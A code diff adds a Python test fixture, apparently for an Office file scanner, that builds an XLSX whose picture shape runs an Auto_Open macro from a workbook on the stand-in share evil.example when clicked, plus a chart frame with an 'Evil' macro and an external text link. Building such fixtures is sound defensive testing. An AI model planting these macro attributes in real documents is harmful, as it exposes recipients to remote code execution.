@@ -722,3 +722,14 @@ def pptx_ole_verb_on_show_start() -> bytes:
     slide = package.text("ppt/slides/slide1.xml")
     package.put("ppt/slides/slide1.xml", slide.replace("</p:clrMapOvr>", "</p:clrMapOvr>" + timing, 1))
     return package.bytes()
+
+
+def xlsx_shape_macros() -> bytes:
+    """§20.5.2.29: a picture that runs a macro in a workbook on a share when clicked, and a
+    chart frame with a macro and a text link into another book."""
+    package = Package(rich_xlsx())
+    drawing = package.text("xl/drawings/drawing1.xml")
+    drawing = drawing.replace("<pic>", "<pic macro=\"'\\\\evil.example\\share\\[tools.xlsm]Sheet1'!Auto_Open\">", 1)
+    drawing = drawing.replace("<graphicFrame>", '<graphicFrame macro="[0]!Evil" textlink="[1]Sheet1!A1">', 1)
+    package.put("xl/drawings/drawing1.xml", drawing)
+    return package.bytes()
